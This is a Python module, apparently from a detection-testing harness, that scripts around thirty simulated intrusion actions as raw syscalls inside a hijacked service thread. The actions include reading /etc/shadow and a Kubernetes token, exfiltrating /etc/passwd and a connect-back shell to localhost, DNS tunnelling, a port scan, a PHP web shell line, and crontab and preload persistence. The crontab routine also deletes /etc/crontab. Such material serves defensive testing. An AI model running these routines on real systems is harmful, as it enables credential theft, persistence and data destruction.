"""What an intruder's machine code does inside the service's own thread: no new process, no new program.

The hardest to see: nothing is executed, and the calls are those of the service's own thread.
"""

import os
import socket
import struct
from collections.abc import Callable
from dataclasses import dataclass

from recordings.inject import Hijacked

_AT_FDCWD = -100
_READ, _WRITE, _CLOSE, _MMAP, _MPROTECT, _MUNMAP = 0, 1, 3, 9, 10, 11
_SOCKET, _CONNECT, _SENDTO, _BIND, _LISTEN, _KILL = 41, 42, 44, 49, 50, 62
_CHMOD, _PTRACE, _MOUNT, _INIT_MODULE, _GETDENTS = 90, 101, 165, 175, 217
_ADD_KEY, _OPENAT, _UNLINKAT, _UNSHARE, _SETNS = 248, 257, 263, 272, 308
_PROCESS_VM_READV, _MEMFD, _BPF, _USERFAULTFD, _IO_URING, _DUP2, _WAIT4 = 310, 319, 321, 323, 425, 33, 61
_CREATE, _DIRECTORY = os.O_CREAT | os.O_WRONLY, os.O_RDONLY | os.O_DIRECTORY


@dataclass(frozen=True)
class Routine:
    """One action, call by call. Returns what the decisive call gave: minus errno where it was refused."""

    name: str
    tactic: str
    act: Callable[[Hijacked], int]


def _open(thread: Hijacked, path: str, flags: int = os.O_RDONLY) -> int:
    return thread.call(_OPENAT, _AT_FDCWD, path.encode() + b"\0", flags, 0o600)


def _slurp(path: str) -> Callable[[Hijacked], int]:
    def act(thread: Hijacked) -> int:
        file = _open(thread, path)
        if file >= 0:
            thread.call(_READ, file, bytes(4096), 4096)
            thread.call(_CLOSE, file)
        return file

    return act


def _drop(path: str, text: str) -> Callable[[Hijacked], int]:
    def act(thread: Hijacked) -> int:
        file = _open(thread, path, _CREATE)
        if file >= 0:
            thread.call(_WRITE, file, text.encode(), len(text))
            thread.call(_CLOSE, file)
            thread.call(_UNLINKAT, _AT_FDCWD, path.encode() + b"\0", 0)
        return file

    return act


def _address(port: int) -> bytes:
    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + bytes((127, 0, 0, 1)) + bytes(8)


def _exfiltrate(thread: Hijacked) -> int:
    file, link = _open(thread, "/etc/passwd"), thread.call(_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
    place = thread.put(bytes(4096))
    size = thread.call(_READ, file, place, 4096)
    thread.call(_CONNECT, link, _address(4446), 16)
    sent = thread.call(_WRITE, link, place, size)
    thread.call(_CLOSE, file)
    thread.call(_CLOSE, link)
    return sent


def _connect_back(thread: Hijacked) -> int:
    link = thread.call(_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
    done = thread.call(_CONNECT, link, _address(4446), 16)
    thread.call(_WRITE, link, b"ready\n", 6)
    for number in (200, 201, 202):
        thread.call(_DUP2, link, number)
    for number in (200, 201, 202, link):
        thread.call(_CLOSE, number)
    return done


def _datagrams(thread: Hijacked) -> int:
    link, sent = thread.call(_SOCKET, socket.AF_INET, socket.SOCK_DGRAM, 0), 0
    for number in range(20):
        query = f"{number:02d}.c2VjcmV0.tunnel.invalid".encode()
        sent = thread.call(_SENDTO, link, query, len(query), 0, _address(5353), 16)
    thread.call(_CLOSE, link)
    return sent


def _door(thread: Hijacked) -> int:
    link = thread.call(_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
    thread.call(_BIND, link, _address(5556), 16)
    done = thread.call(_LISTEN, link, 1)
    thread.call(_CLOSE, link)
    return done


def _scan(thread: Hijacked) -> int:
    done = 0
    for port in (21, 22, 25, 80, 443, 2375, 3306, 6443, 10250, 27017):
        link = thread.call(_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
        done = thread.call(_CONNECT, link, _address(port), 16)
        thread.call(_CLOSE, link)
    return done


def _program_in_memory(thread: Hijacked) -> int:
    file = thread.call(_MEMFD, b"kworker\0", 0)
    thread.call(_WRITE, file, b"\x7fELF", 4)
    thread.call(_CLOSE, file)
    return file


def _code_page(thread: Hijacked) -> int:
    page = thread.call(_MMAP, 0, 4096, 3, 0x22, -1, 0)
    done = thread.call(_MPROTECT, page, 4096, 5)
    thread.call(_MUNMAP, page, 4096)
    return done


def _list(path: str) -> Callable[[Hijacked], int]:
    def act(thread: Hijacked) -> int:
        folder = _open(thread, path, _DIRECTORY)
        if folder >= 0:
            while thread.call(_GETDENTS, folder, bytes(4096), 4096) > 0:
                pass
            thread.call(_CLOSE, folder)
        return folder

    return act


def _setuid_file(thread: Hijacked) -> int:
    path = "/tmp/.s"
    thread.call(_CLOSE, _open(thread, path, _CREATE))
    done = thread.call(_CHMOD, path.encode() + b"\0", 0o4755)
    thread.call(_UNLINKAT, _AT_FDCWD, path.encode() + b"\0", 0)
    return done


def _encrypt(thread: Hijacked) -> int:
    done = 0
    for number in range(20):
        path, locked = f"/tmp/.v{number}", f"/tmp/.v{number}.locked"
        for name in (path, locked):
            file = _open(thread, name, _CREATE)
            done = thread.call(_WRITE, file, bytes(1024), 1024)
            thread.call(_CLOSE, file)
        _slurp(path)(thread)
        for name in (path, locked):
            thread.call(_UNLINKAT, _AT_FDCWD, name.encode() + b"\0", 0)
    return done


def _read_other(thread: Hijacked) -> int:
    into = thread.put(bytes(64))
    vector = thread.put(struct.pack("<QQ", into, 64))
    return thread.call(_PROCESS_VM_READV, 1, vector, 1, vector, 1, 0)


def _trace(thread: Hijacked) -> int:
    done = thread.call(_PTRACE, 16, 1, 0, 0)
    if done >= 0:
        thread.call(_WAIT4, 1, 0, 0x40000000, 0)
        thread.call(_PTRACE, 17, 1, 0, 0)
    return done


def _enter(thread: Hijacked) -> int:
    file = _open(thread, "/proc/1/ns/net")
    done = thread.call(_SETNS, file, 0)
    if file >= 0:
        thread.call(_CLOSE, file)
    return done


def _closed(number: int, *arguments: int | bytes) -> Callable[[Hijacked], int]:
    def act(thread: Hijacked) -> int:
        made = thread.call(number, *arguments)
        if made >= 0:
            thread.call(_CLOSE, made)
        return made

    return act


def _one(number: int, *arguments: int | bytes) -> Callable[[Hijacked], int]:
    return lambda thread: thread.call(number, *arguments)


ROUTINES = (
    Routine("read /etc/shadow", "credential access", _slurp("/etc/shadow")),
    Routine(
        "read service-account token",
        "credential access",
        _slurp("/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ),
    Routine("read environment", "discovery", _slurp("/proc/self/environ")),
    Routine("list users", "discovery", _slurp("/etc/passwd")),
    Routine("list mounts", "discovery", _slurp("/proc/mounts")),
    Routine("list processes", "discovery", _list("/proc")),
    Routine("scan ports", "discovery", _scan),
    Routine("sniff packets", "discovery", _closed(_SOCKET, 17, socket.SOCK_RAW, 0x300)),
    Routine("look into /proc/1/root", "privilege escalation", _list("/proc/1/root/root")),
    Routine("connect back", "command and control", _connect_back),
    Routine("open a door", "command and control", _door),
    Routine("exfiltrate a file", "exfiltration", _exfiltrate),
    Routine("tunnel in names", "exfiltration", _datagrams),
    Routine("cron job", "persistence", _drop("/etc/crontab", "* * * * * root /tmp/.t\n")),
    Routine("preload a library", "persistence", _drop("/etc/ld.so.preload.new", "/tmp/.x.so\n")),
    Routine("drop a web shell", "persistence", _drop("/tmp/x.php", "<?php system($_GET[0]); ?>\n")),
    Routine("set a setuid bit", "persistence", _setuid_file),
    Routine("program in memory", "execution", _program_in_memory),
    Routine("write and run machine code", "execution", _code_page),
    Routine("read memory of a process", "credential access", _read_other),
    Routine("trace a process", "defense evasion", _trace),
    Routine("kernel keys", "credential access", _one(_ADD_KEY, b"user\0", b"loot\0", b"secret", 6, -2)),
    Routine("new namespaces", "privilege escalation", _one(_UNSHARE, 0x20000)),
    Routine("enter a namespace", "privilege escalation", _enter),
    Routine("mount", "privilege escalation", _one(_MOUNT, b"none\0", b"/tmp\0", b"tmpfs\0", 0, 0)),
    Routine("kernel module", "privilege escalation", _one(_INIT_MODULE, b"\x7fELF", 4, b"\0")),
    Routine("BPF program", "privilege escalation", _one(_BPF, 5, bytes(48), 48)),
    Routine("io_uring", "privilege escalation", _closed(_IO_URING, 8, bytes(120))),
    Routine("userfaultfd", "privilege escalation", _closed(_USERFAULTFD, os.O_CLOEXEC)),
    Routine("encrypt files", "impact", _encrypt),
    Routine("signal a process", "discovery", _one(_KILL, 1, 0)),
)
"""In the order in which they are done. Where a thing is refused, the attempt is the action."""
